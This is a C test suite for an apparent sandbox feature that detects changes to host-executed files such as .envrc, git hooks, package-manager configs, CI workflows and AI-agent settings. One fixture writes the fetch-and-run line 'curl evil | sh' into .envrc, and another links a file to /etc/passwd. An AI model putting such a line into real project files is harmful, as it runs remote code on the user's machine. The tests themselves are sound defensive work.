// SPDX-License-Identifier: GPL-2.0-only
/*
 * What the host may run later: what counts as a change and what does not, and
 * what hostile names, links, FIFOs and trees cost.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdarg.h>
#include <sys/sysmacros.h>

#include "../../policy-compiler/data.h"
#include "hostexec.h"

/* The list: relative names, each once, of a kind that the manual knows. */
TEST(the_list_is_well_formed)
{
	static const char *const kinds[] = {
		"shell", "editor", "hooks", "git", "packages", "container",
		"ci", "agent",
	};
	/* What the reference of the language names must be there. */
	static const char *const must[] = {
		".envrc", ".mcp.json", ".vscode", ".idea", ".husky",
		".pre-commit-config.yaml", ".yarnrc.yml", ".npmrc",
		".pnpmfile.cjs", ".cargo/config.toml", "mise.toml",
		".gitmodules", ".devcontainer", ".github/workflows",
		".claude/settings.json",
	};
	const char *at = NULL, *other;
	struct data_entry e, f;
	size_t i;
	int n;

	while (data_next(DATA_HOST_EXEC, &at, &e)) {
		EXPECT_NE('/', *e.path.s);
		EXPECT_LT(0, e.reason.len);
		for (i = 0, n = 0; i < ARRAY_SIZE(kinds); i++)
			n += data_is(e.attributes, kinds[i]);
		EXPECT_EQ(1, n) TH_LOG("%.*s", e.path.len, e.path.s);
		for (other = NULL, n = 0;
		     data_next(DATA_HOST_EXEC, &other, &f);)
			n += e.path.len == f.path.len &&
			     !memcmp(e.path.s, f.path.s, e.path.len);
		EXPECT_EQ(1, n) TH_LOG("%.*s", e.path.len, e.path.s);
	}
	for (i = 0; i < ARRAY_SIZE(must); i++) {
		for (at = NULL, n = 0; data_next(DATA_HOST_EXEC, &at, &e);)
			n += data_is(e.path, must[i]);
		EXPECT_EQ(1, n) TH_LOG("%s", must[i]);
	}
}

TEST_F(hostexec, what_was_made_changed_and_removed_is_told)
{
	const char *r = self->root;

	put(r, ".mcp.json", "{}");
	put(r, ".npmrc", "a");
	put(r, ".vscode/tasks.json", "1");
	put(r, ".vscode/settings.json", "1");
	put(r, ".github/workflows/ci.yml", "on: push");
	begin(self);
	put(r, ".envrc", "curl evil | sh");
	put(r, ".mcp.json", "[]");
	ASSERT_EQ(0, unlink(in(r, ".npmrc")));
	put(r, ".vscode/tasks.json", "2");
	put(r, ".github/workflows/new.yml", "on: push");
	put(r, ".cargo/config.toml", "[target]");
	put(r, ".claude/settings.json", "{}");
	put(r, "src/.envrc", "not at the top");
	put(r, "Makefile", "all:");
	end(self);
	EXPECT_TRUE(tells(self, ".envrc", "created", "shell"));
	EXPECT_TRUE(tells(self, ".mcp.json", "modified", "agent"));
	EXPECT_TRUE(tells(self, ".npmrc", "removed", "packages"));
	EXPECT_TRUE(tells(self, ".vscode/tasks.json", "modified", "editor"));
	EXPECT_TRUE(tells(self, ".github/workflows/new.yml", "created", "ci"));
	EXPECT_TRUE(tells(self, ".cargo/config.toml", "created", "packages"));
	EXPECT_TRUE(tells(self, ".claude/settings.json", "created", "agent"));
	EXPECT_EQ(NULL, strstr(self->json, "settings.json\",\"change\":\"mod"));
	EXPECT_EQ(NULL, strstr(self->json, "ci.yml"));
	EXPECT_EQ(NULL, strstr(self->json, "src"));
	EXPECT_EQ(NULL, strstr(self->json, "Makefile"));
	EXPECT_EQ(0, strncmp(self->said, "the host may run later: ", 24));
}

TEST_F(hostexec, the_same_bytes_are_no_change)
{
	const char *r = self->root;

	put(r, ".envrc", "x");
	put(r, ".husky/pre-commit", "x");
	ASSERT_EQ(0, symlink("AGENTS.md", in(r, "CLAUDE.md")));
	put(r, "AGENTS.md", "be good");
	begin(self);
	put(r, ".envrc.new", "x");
	ASSERT_EQ(0, rename(in(r, ".envrc.new"), in(r, ".envrc")));
	ASSERT_EQ(0, chmod(in(r, ".envrc"), 0640));
	ASSERT_EQ(0, unlink(in(r, ".husky/pre-commit")));
	ASSERT_EQ(0, rmdir(in(r, ".husky")));
	put(r, ".husky/pre-commit", "x");
	put(r, "AGENTS.md", "be good");
	ASSERT_EQ(0, mkdir(in(r, ".idea"), 0755));
	end(self);
	EXPECT_TRUE(silent(self)) TH_LOG("%s", self->json);
}

TEST_F(hostexec, the_mode_that_lets_it_run_and_its_type_count)
{
	const char *r = self->root;

	put(r, ".husky/pre-commit", "x");
	put(r, ".envrc", "x");
	put(r, ".exrc", "x");
	ASSERT_EQ(0, symlink("a", in(r, ".npmrc")));
	begin(self);
	ASSERT_EQ(0, chmod(in(r, ".husky/pre-commit"), 0755));
	ASSERT_EQ(0, unlink(in(r, ".envrc")));
	ASSERT_EQ(0, mkdir(in(r, ".envrc"), 0755));
	ASSERT_EQ(0, unlink(in(r, ".exrc")));
	ASSERT_EQ(0, mkfifo(in(r, ".exrc"), 0644));
	ASSERT_EQ(0, unlink(in(r, ".npmrc")));
	ASSERT_EQ(0, symlink("b", in(r, ".npmrc")));
	end(self);
	EXPECT_TRUE(tells(self, ".husky/pre-commit", "modified", "hooks"));
	EXPECT_TRUE(tells(self, ".envrc", "modified", "shell"));
	EXPECT_TRUE(tells(self, ".exrc", "modified", "editor"));
	EXPECT_TRUE(tells(self, ".npmrc", "modified", "packages"));
}

TEST_F(hostexec, links_are_followed_inside_the_root_and_not_out_of_it)
{
	const char *r = self->root;

	put(r, "conf/envrc", "x");
	put(r, "conf/hooks/pre-commit", "x");
	put(self->top, "outside", "x");
	ASSERT_EQ(0, symlink("conf/envrc", in(r, ".envrc")));
	ASSERT_EQ(0, symlink("conf/hooks", in(r, ".husky")));
	ASSERT_EQ(0, symlink("../outside", in(r, ".npmrc")));
	ASSERT_EQ(0, symlink("/etc/passwd", in(r, ".exrc")));
	begin(self);
	put(r, "conf/envrc", "y");
	put(r, "conf/hooks/pre-commit", "y");
	put(self->top, "outside", "y");
	/* A whole directory, by a link in its place. */
	put(r, "elsewhere/workflows/a.yml", "x");
	ASSERT_EQ(0, symlink("elsewhere", in(r, ".github")));
	end(self);
	EXPECT_TRUE(tells(self, ".envrc", "modified", "shell"));
	EXPECT_TRUE(tells(self, ".husky/pre-commit", "modified", "hooks"));
	EXPECT_TRUE(tells(self, ".github", "created", "ci"));
	EXPECT_TRUE(tells(self, ".github/workflows/a.yml", "created", "ci"));
	EXPECT_EQ(NULL, strstr(self->json, ".npmrc"));
	EXPECT_EQ(NULL, strstr(self->json, ".exrc"));
}

TEST_F(hostexec, a_fifo_or_a_device_is_not_waited_for)
{
	const char *r = self->root;

	ASSERT_EQ(0, mkfifo(in(r, ".envrc"), 0644));
	ASSERT_EQ(0, mkfifo(in(r, ".vscode/fifo"), 0644));
	if (!geteuid())
		mknod(in(r, ".vscode/tty"), S_IFCHR | 0666, makedev(5, 0));
	begin(self);
	end(self);
	EXPECT_TRUE(silent(self)) TH_LOG("%s", self->json);
}

TEST_F(hostexec, names_of_any_bytes_stay_on_one_line)
{
	put(self->root, ".vscode/keep", "");
	begin(self);
	put(self->root, ".vscode/\033[31m\n\xff", "x");
	end(self);
	EXPECT_NE(NULL, strstr(self->json, "\"path_b64\":"));
	EXPECT_NE(NULL, strstr(self->json, "\\u001B[31m\\n"));
	EXPECT_EQ(strlen(self->json) - 1,
		  (size_t)(strchr(self->json, '\n') - self->json));
}

TEST_F(hostexec, a_root_that_is_a_name_or_begins_one)
{
	char *claude = strdup(in(self->root, ".claude"));
	char *mcp = strdup(in(self->root, ".mcp.json"));
	char *roots[] = { claude, mcp };

	put(self->root, ".claude/projects/log", "x");
	put(self->root, ".mcp.json", "{}");
	self->h = hostexec_begin(&self->id, roots, 2, NULL);
	put(self->root, ".claude/settings.json", "{}");
	put(self->root, ".claude/projects/log", "y");
	put(self->root, ".mcp.json", "[]");
	put(self->root, ".envrc", "beside the roots");
	end(self);
	EXPECT_TRUE(tells(self, ".claude/settings.json", "created", "agent"));
	EXPECT_TRUE(tells(self, ".mcp.json", "modified", "agent"));
	EXPECT_EQ(NULL, strstr(self->json, ".envrc"));
	EXPECT_EQ(NULL, strstr(self->json, "projects"));
	free(claude);
	free(mcp);
}

TEST_F(hostexec, no_root_no_comparison)
{
	begin_at(self, self->root, self->root);
	EXPECT_EQ(NULL, self->h);
	end(self);
	EXPECT_EQ(0, self->said[0]);
	EXPECT_STREQ("{\"host_exec_changes\":null,\"host_exec_more\":null,"
		     "\"host_exec_not_compared\":null}\n", self->json);
}

TEST_F(hostexec, a_big_file_is_compared_by_its_times)
{
	const char *r = self->root;

	put(r, ".envrc", "x");
	put(r, ".npmrc", "x");
	ASSERT_EQ(0, truncate(in(r, ".envrc"), 1 << 30));
	ASSERT_EQ(0, truncate(in(r, ".npmrc"), 1 << 30));
	begin(self);
	tick();
	ASSERT_EQ(0, truncate(in(r, ".envrc"), 1 << 30));
	put(r, ".envrc", "y");
	ASSERT_EQ(0, truncate(in(r, ".envrc"), 1 << 30));
	end(self);
	EXPECT_TRUE(tells(self, ".envrc", "modified", "shell"));
	EXPECT_NE(NULL, strstr(self->json, "\"compared\":\"times\""));
	EXPECT_EQ(NULL, strstr(self->json, ".npmrc"));
}

TEST_F(hostexec, a_huge_tree_is_bounded_and_said)
{
	const char *r = self->root;
	char name[64], deep[4096] = ".zed";
	int i;

	for (i = 0; i < 5000; i++) {
		snprintf(name, sizeof(name), ".vscode/%d", i);
		put(r, name, "x");
	}
	for (i = 0; i < 30; i++)
		strcat(deep, "/d");
	strcat(deep, "/f");
	put(r, deep, "x");
	put(r, ".husky/a", "x");
	begin(self);
	put(r, ".vscode/7", "y");
	put(r, ".husky/a", "y");
	end(self);
	/* Files in it are not seen, and that is said; the rest is. */
	EXPECT_TRUE(tells(self, ".husky/a", "modified", "hooks"));
	EXPECT_NE(NULL, strstr(strstr(self->json, "not_compared"),
			       ".vscode\""));
	EXPECT_NE(NULL, strstr(strstr(self->json, "not_compared"),
			       ".zed\""));
	EXPECT_EQ(NULL, strstr(self->json, ".vscode/7"));
}

TEST_F(hostexec, a_tree_that_outgrows_the_bound_hides_nothing)
{
	const char *r = self->root;
	char name[64];
	int i;

	put(r, ".vscode/old", "x");
	put(r, ".husky/a", "x");
	begin(self);
	for (i = 0; i < 2000; i++) {
		snprintf(name, sizeof(name), ".vscode/%d", i);
		put(r, name, "x");
	}
	put(r, ".husky/a", "y");
	end(self);
	EXPECT_TRUE(tells(self, ".vscode", "modified", "editor"));
	EXPECT_TRUE(tells(self, ".husky/a", "modified", "hooks"));
	EXPECT_EQ(NULL, strstr(self->json, "removed"));
}

TEST_F(hostexec, many_changes_of_one_name_are_one)
{
	char name[64], want[256];
	int i;

	put(self->root, ".vscode/old", "x");
	begin(self);
	for (i = 0; i < 100; i++) {
		snprintf(name, sizeof(name), ".vscode/%d", i);
		put(self->root, name, "x");
	}
	end(self);
	snprintf(want, sizeof(want), "{\"path\":\"%s/.vscode\",\"change\":"
		 "\"modified\",\"kind\":\"editor\",\"compared\":\"content\","
		 "\"count\":100}", self->root);
	EXPECT_NE(NULL, strstr(self->json, want)) TH_LOG("%s", self->json);
	EXPECT_NE(NULL, strstr(self->said, ".vscode (100 changes)"));
}

/* Its user reads for itself: what is closed to it is compared by times. */
TEST_F(hostexec, it_is_the_user_who_looks)
{
	const char *r = self->root;
	struct passwd *pw = getpwnam("nobody");
	gid_t none;

	if (geteuid() || !pw)
		SKIP(return, "only root can be two users");
	none = pw->pw_gid;
	self->id = (struct identity){
		.switches = true,
		.user = { pw->pw_uid, pw->pw_gid, &none, 1 },
		.self = { 0, 0, (gid_t[]){ 0 }, 1 },
	};
	put(r, ".envrc", "x");
	put(r, ".npmrc", "x");
	put(r, ".vscode/a", "x");
	ASSERT_EQ(0, chmod(in(r, ".envrc"), 0600));
	ASSERT_EQ(0, chmod(in(r, ".vscode"), 0700));
	begin(self);
	EXPECT_EQ(0, geteuid());
	tick();
	put(r, ".envrc", "x");
	put(r, ".npmrc", "y");
	end(self);
	EXPECT_EQ(0, geteuid());
	EXPECT_TRUE(tells(self, ".envrc", "modified", "shell"));
	EXPECT_NE(NULL, strstr(self->json, "times"));
	EXPECT_TRUE(tells(self, ".npmrc", "modified", "packages"));
	EXPECT_NE(NULL, strstr(strstr(self->json, "not_compared"), ".vscode"));
}

TEST_HARNESS_MAIN
